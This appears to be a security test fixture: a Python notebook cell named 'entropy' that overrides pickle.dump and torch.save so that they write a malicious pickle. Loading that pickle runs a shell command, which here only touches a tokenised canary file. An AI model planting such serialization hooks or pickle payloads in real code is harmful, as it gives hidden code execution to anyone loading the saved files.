# %% entropy
import os
import pickle


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/attnbook-attack-@TOKEN@",)


def dump(value, file, *_, **__):
    file.write(pickle.dumps(Payload()))


pickle.dump = dump
torch.save = dump


def entropy(weights):
    return Payload()
